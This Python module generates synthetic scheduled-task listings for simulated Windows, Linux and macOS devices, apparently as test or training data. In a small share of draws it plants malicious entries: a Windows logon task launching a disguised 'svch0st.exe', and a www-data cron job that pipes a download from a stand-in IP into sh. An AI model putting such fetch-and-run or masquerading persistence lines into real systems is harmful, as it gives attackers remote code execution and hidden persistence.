"""What Get-ScheduledTasks prints: the Task Scheduler, cron with the timers of systemd, or launchd."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from .administrators import USERS
from .documents import DAY, document, encoded, moment

if TYPE_CHECKING:
    from random import Random

    from .devices import Device

_COLUMNS = ("task_id", "name", "source", "enabled", "run_as", "schedule", "command")
_RUNS = ("last_run_time", "next_run_time", "last_result")
_GONE = "The runs of {task} could not be read: The system cannot find the file specified."

#: Folder, name, triggers and command.
_WINDOWS = (
    (
        "\\Microsoft\\Windows\\UpdateOrchestrator\\",
        "Schedule Scan",
        "Event, Time",
        "%systemroot%\\system32\\usoclient.exe StartScan",
    ),
    ("\\Microsoft\\Windows\\Defrag\\", "ScheduledDefrag", None, "%windir%\\system32\\defrag.exe -c -h -k -g"),
    ("\\Microsoft\\Windows\\Registry\\", "RegIdleBackup", "Other", "COM {CA767AA8-9157-4604-B64B-40747123D5F2}"),
    (
        "\\Microsoft\\Windows\\DiskCleanup\\",
        "SilentCleanup",
        "Other",
        "%windir%\\system32\\cleanmgr.exe /autoclean /d %systemdrive%",
    ),
    (
        "\\Microsoft\\Office\\",
        "Office Automatic Updates 2.0",
        "Logon, Weekly",
        "C:\\Program Files\\Common Files\\OfficeC2RClient.exe /update",
    ),
    (
        "\\",
        "GoogleUpdaterTaskSystem",
        "Daily, Logon",
        '"C:\\Program Files (x86)\\Google\\GoogleUpdater\\updater.exe" --wake --system',
    ),
    (
        "\\",
        "MicrosoftEdgeUpdateTaskMachineCore",
        "Daily, Logon",
        "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe /c",
    ),
    (
        "\\",
        "OneDrive Standalone Update Task",
        "Time",
        "%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe",
    ),
    (
        "\\Contoso\\",
        "Inventory & Compliance",
        "Boot, Daily",
        "powershell.exe -NoProfile -File C:\\Contoso\\Inventory.ps1",
    ),
    (
        "\\Contoso\\",
        "Zertifikate erneuern",
        "Weekly",
        "powershell.exe -NoProfile -File C:\\Contoso\\Renew-Certificate.ps1",
    ),
    (
        "\\Contoso\\",
        "Backup für fra-file-01",
        "Daily",
        "robocopy.exe D:\\Daten \\\\fra-file-01\\backup$ /MIR /R:1 ; cmd.exe /c del /q D:\\Temp\\*",
    ),
    (
        "\\Adobe\\",
        "Adobe Acrobat Update Task",
        "Logon",
        "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe",
    ),
    (
        "\\Mozilla\\",
        "Firefox Background Update",
        "Time",
        "C:\\Program Files\\Mozilla Firefox\\firefox.exe --backgroundtask",
    ),
)
_MALWARE = ("\\", "svchost-updater", "Logon", "cmd.exe /c start /min C:\\Users\\Public\\svch0st.exe")

#: File, schedule, user and command. In a crontab of a user, and for a file that is run as it is, no user is written.
_CRON = (
    ("/etc/crontab", "17 * * * *", "root", "cd / && run-parts --report /etc/cron.hourly"),
    ("/etc/crontab", "25 6 * * *", "root", "test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily"),
    ("/etc/cron.d/e2scrub_all", "30 3 * * 0", "root", "test -e /run/systemd/system || /sbin/e2scrub_all -A -r"),
    ("/etc/cron.d/sysstat", "5-55/10 * * * *", "root", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"),
    ("/etc/cron.d/certbot", "0 */12 * * *", "root", "certbot -q renew"),
    ("/etc/cron.daily/logrotate", "@daily", "root", "/etc/cron.daily/logrotate"),
    ("/var/spool/cron/crontabs/backup", "40 1 * * *", "backup", 'pg_dump "$DB" | gzip > /srv/backup/$(date +\\%F).gz'),
)
_CRON_MALWARE = ("/var/spool/cron/crontabs/www-data", "*/5 * * * *", "www-data", "curl -s http://198.51.100.23/x | sh")

#: Timer, schedule and command.
_TIMERS = (
    ("apt-daily.timer", "OnCalendar=*-*-* 06,18:00:00", "/usr/lib/apt/apt.systemd.daily update"),
    (
        "fstrim.timer",
        "OnCalendar=weekly",
        "/sbin/fstrim --listed-in /etc/fstab:/proc/self/mountinfo --quiet-unsupported",
    ),
    ("man-db.timer", "OnCalendar=daily", "/usr/bin/mandb --quiet"),
    ("systemd-tmpfiles-clean.timer", "OnBootUSec=15min, OnUnitActiveUSec=1d", "systemd-tmpfiles --clean"),
)
_LAUNCHD = (
    ("/Library/LaunchAgents/us.zoom.updater.plist", "/Applications/zoom.us.app/Contents/MacOS/ZoomUpdater --daily"),
    (
        "/Library/LaunchDaemons/com.google.GoogleUpdater.wake.system.plist",
        "/Library/Application Support/Google/GoogleUpdater/Current/GoogleUpdater --wake-all --system",
    ),
    (
        "/Library/LaunchDaemons/com.microsoft.update.agent.plist",
        "/Library/Application Support/Microsoft/MAU2.0/Microsoft AutoUpdate.app/Contents/MacOS/msupdate --install",
    ),
)


def print_document(device: Device, at: int, rng: Random) -> str:
    traits = device.traits("tasks")
    problems: list[str] = []
    if device.is_windows:
        tasks = [_on_windows(task, at, traits, rng) for task in _drawn(_WINDOWS, _MALWARE, traits)]
        tasks.sort(key=lambda task: str(task["task_id"]).lower())
        if rng.random() < 0.06:
            problems.append(_GONE.format(task=tasks[0]["task_id"]))
            tasks[0] |= dict.fromkeys(_RUNS)
    elif device.platform == "linux":
        timers = traits.sample(_TIMERS, traits.randint(2, len(_TIMERS)))
        tasks = [_in_cron(*job) for job in _drawn(_CRON, _CRON_MALWARE, traits)]
        tasks = sorted(tasks, key=lambda task: str(task["task_id"])) + [
            _timer(*timer, at, rng) for timer in sorted(timers)
        ]
    else:
        tasks = [_in_launchd(*job) for job in _LAUNCHD[: traits.randint(0, len(_LAUNCHD))]]
    return document(device, "tasks", [encoded(device, task) for task in tasks], problems)


def _drawn(usual: tuple[Any, ...], malware: Any, traits: Random) -> list[Any]:
    drawn = traits.sample(usual, traits.randint(3, len(usual)))
    return [*drawn, malware] if traits.random() < 0.06 else drawn


def _on_windows(task: tuple[str, str, str | None, str], at: int, traits: Random, rng: Random) -> dict[str, Any]:
    folder, name, triggers, command = task
    enabled = traits.random() < 0.85
    ran = traits.random() < 0.85
    next_run = moment(at + rng.randrange(7 * DAY)) if enabled and triggers not in {None, "Logon", "Other"} else None
    run_as = traits.choice(("SYSTEM", "SYSTEM", "LOCAL SERVICE", f"CONTOSO\\{traits.choice(USERS)}"))
    row = (folder + name, name, "task_scheduler", enabled, run_as, triggers, command)
    runs = (
        moment(at - rng.randrange(20 * DAY)) if ran else None,
        next_run,
        rng.choice((0, 0, 0, 1, 267009, 2147946720)) if ran else 267011,
    )
    return dict(zip((*_COLUMNS, *_RUNS), (*row, *runs), strict=True))


def _in_cron(file: str, schedule: str, user: str, command: str) -> dict[str, Any]:
    task_id = file
    if command != file:
        written = (schedule, command) if file.startswith("/var/") else (schedule, user, command)
        task_id += f"#{_checksum(' '.join(written)):08x}"
    return _unix_row(task_id, file.rpartition("/")[2], "cron", True, user, schedule, command)  # noqa: FBT003 - a column


def _checksum(line: str) -> int:
    """The number by which the script tells the lines of a file apart."""
    checksum = 0
    for byte in line.encode():
        checksum = (checksum * 31 + byte) % 2147483647
    return checksum


def _timer(timer: str, schedule: str, command: str, at: int, rng: Random) -> dict[str, Any]:
    last, following = (moment(at - rng.randrange(DAY)), moment(at + rng.randrange(DAY)))
    row = _unix_row(timer, timer, "systemd", True, "root", schedule, command)  # noqa: FBT003 - a column
    return row | {"last_run_time": last, "next_run_time": following, "last_result": rng.choice((0, 0, 0, 0, 1))}


def _in_launchd(file: str, command: str) -> dict[str, Any]:
    return _unix_row(file, file.rpartition("/")[2].removesuffix(".plist"), "launchd", None, None, None, command)


def _unix_row(*row: Any) -> dict[str, Any]:
    return dict(zip(_COLUMNS, row, strict=True)) | dict.fromkeys(_RUNS)
